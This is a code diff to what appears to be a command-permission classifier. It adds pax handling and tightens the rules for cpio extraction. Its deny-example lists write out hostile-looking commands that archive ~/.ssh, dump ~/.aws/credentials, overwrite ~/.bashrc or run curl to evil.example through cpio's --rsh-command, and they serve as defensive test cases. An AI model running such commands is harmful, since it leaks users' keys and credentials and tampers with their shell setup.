@@ -216,6 +216,32 @@ function makes(entry: ProgramEntry): ProgramEntry {
   return { ...entry, analyze: (call) => ({ ...entry.analyze?.(call), leavesRead: undefined }) };
 }
 
+/**
+ * pax: -r extracts the archive (stdin or -f) with its names as written, a leading `/` and `..` kept (no stripping, as
+ * GNU cpio's default), read as an extract into `/`; -w archives the files named (or listed on stdin) into -f or
+ * stdout; -rw copies them into the last operand. Without either it lists.
+ */
+function pax(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'posix', flags: 'rwacdiklntuvzHLPXO0', valued: 'bfopsx' });
+  const uses: NonNullable<Answer['uses']> = [];
+  const read = has(p, 'r');
+  const write = has(p, 'w');
+  const ops = p.operands.map((o) => o.word);
+  for (const o of p.options) if (o.name === 'f' && o.value) uses.push({ word: o.value, role: write && !read ? 'write' : 'read' });
+  if (read && write) {
+    for (const w of ops.slice(0, -1)) uses.push({ word: w, role: 'read-tree' });
+    if (ops.at(-1)) uses.push({ word: ops.at(-1)!, role: 'extract' });
+  } else if (read) {
+    const mode = p.options.find((o) => o.name === 'r')!;
+    uses.push({ word: mode.word, role: 'extract', values: ['/'] });
+    for (const w of ops) uses.push({ word: w, role: 'text' });
+  } else if (write) {
+    for (const w of ops) uses.push({ word: w, role: 'read-tree' });
+    if (ops.length === 0) uses.push(...listedReads(call.stdin, p.options.find((o) => o.name === 'w')!.word));
+  } else for (const w of ops) uses.push({ word: w, role: 'text' });
+  return { uses };
+}
+
 /** cpio: copy-in (-i) extracts beneath -D (or here), pass-through (-p) beneath its operand; copy-out writes its stdout or -O. */
 function cpio(call: Call): Partial<Answer> {
   const p = parse(call.args, {
@@ -239,6 +265,10 @@ function cpio(call: Call): Partial<Answer> {
   if (has(p, 'i', 'extract')) {
     const dir = p.options.find((o) => o.name === 'D' || o.name === 'directory')?.value;
     answer.uses.push(dir ? { word: dir, role: 'extract' } : { word: call.args[0]!, role: 'extract', values: ['.'] });
+    // GNU cpio keeps a member's leading `/` and its `..` unless told --no-absolute-filenames (its manual: "This is
+    // the default"): the archive then writes wherever its names say, read as an extract into `/` (tar -P's reading).
+    const mode = p.options.find((o) => o.name === 'i' || o.name === 'extract')!;
+    if (!has(p, 'no-absolute-filenames') && !has(p, 'to-stdout')) answer.uses.push({ word: mode.word, role: 'extract', values: ['/'] });
   } else if (has(p, 'p', 'pass-through')) {
     for (const o of p.operands) answer.uses.push({ word: o.word, role: 'extract' });
   }
@@ -1752,7 +1782,13 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   formatter('autopep8', 'autopep8: prints the fixes it would make; -i (--in-place) makes them, keeping what a Python file says unless -a (--aggressive)', (w) => w.some((x) => x === '--in-place' || /^-[a-z]*i[a-z]*$/.test(x)), { deny: ['autopep8 -i .git/hooks/pre-commit', 'autopep8 -i -a ~/.bashrc'], pass: ["autopep8 -i $(git ls-files '*.py')", 'autopep8 --diff src/app.py'] }, (w) => (w.some((x) => /^(--aggressive|-[a-z]*a[a-z]*)$/.test(x)) ? false : PYTHON_FILES), ['--max-line-length', '--ignore', '--select', '--indent-size', '-j', '--jobs', '--exclude', '--global-config', '--line-range', '--range', '-p', '--pep8-passes']),
   formatter('ruff', 'ruff: check reads, format (and check --fix) rewrites, keeping what a Python file says (--unsafe-fixes may not)', (w) => w.some((x) => /^(format|--fix)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', "ruff check --fix $(git diff --name-only | grep '\\.py$')", "git ls-files '*.py' | xargs ruff format", 'ruff check --output-file report.txt .'] }, (w) => (w.includes('--unsafe-fixes') ? false : PYTHON_FILES), [], ['-o', '--output-file']),
   formatter('biome', 'biome: check, lint and ci read; format and --write (--fix, --apply) rewrite, laying out each file in the language its name gives (one it does not know it leaves; --unsafe may change what code does)', (w) => w.some((x) => /^(format|--write|--fix|--apply|--apply-unsafe)$/.test(x)), { deny: ['biome format --write .git/hooks/pre-commit'], pass: ['biome check --write src', 'biome check .', 'git diff --name-only | xargs biome format --write'] }, (w) => !w.some((x) => /^--(unsafe|apply-unsafe)$/.test(x)), [], ['--log-file']),
-  { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['find ~ | cpio -o > /tmp/h.cpio', 'cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i -F src.cpio'] } },
+  { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['find ~ | cpio -o > /tmp/h.cpio', 'cpio -idm -D ~ < dots.cpio', 'cpio -idm < vendor.cpio', 'rpm2cpio x.rpm | cpio -idmv', 'cpio -idm -D third_party < vendor.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm --no-absolute-filenames < vendor.cpio', 'cpio -idm --no-absolute-filenames -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i --no-absolute-filenames -F src.cpio', 'cpio -i --to-stdout README < vendor.cpio'] } },
+  {
+    names: ['pax'],
+    summary: 'pax: -r extracts with names as archived (a leading / kept), -w archives the files named, -rw copies them into a directory',
+    analyze: pax,
+    examples: { deny: ['pax -r < dots.pax', 'pax -rf dots.pax', 'pax -w ~/.ssh > /tmp/k.pax', 'pax -rw src ~/.config'], pass: ['pax -f x.pax', 'pax -w src > src.pax', 'pax -wf src.pax src', 'pax -rw src /tmp/copy'] },
+  },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z a /tmp/h.7z ~', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a /tmp/d.7z dist', '7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
   { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['pigz -p 4 -r ~', 'gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz', 'gzip -S rc ~/.bash', 'gzip --suffix=rc ~/.bash'], pass: ['gzip -S .z notes', 'gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'pigz -p 4 -r logs', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
   { names: ['bzip2', 'bunzip2', 'pbzip2'], summary: 'bzip2: -c and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('bzip2'), examples: { deny: ['bzip2 -c ~/.ssh/id_ed25519 > k.bz2'], pass: ['bzip2 -dc data.csv.bz2 | head', "find . -name '*.bz2' -print0 | xargs -0 -I{} bzip2 -dc {} | wc -l"] } },
